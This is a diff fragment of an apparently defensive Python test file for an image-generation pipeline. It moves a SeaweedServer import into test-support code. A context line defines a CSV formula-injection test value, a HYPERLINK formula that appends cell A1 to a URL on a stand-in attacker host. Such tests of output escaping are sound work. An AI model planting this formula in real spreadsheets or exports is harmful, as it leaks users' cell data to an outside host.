@@ -24,8 +24,8 @@ from ideogram_pipeline.runs.runner import execute_batch
 from ideogram_pipeline.safe_output import escape_html, escape_markdown_cell, neutralise_csv_cell
 from ideogram_pipeline.settings import Settings, load_settings
 from ideogram_pipeline.simulator.server import Simulator, SimulatorConfig, running_simulator
-from ideogram_pipeline.storage.seaweed import SeaweedServer
 from tests.conftest import new_bucket
+from tests.support.seaweed import SeaweedServer
 
 FORMULA_PROMPT = '=HYPERLINK("http://attacker.example/?d="&A1, "click")'
 
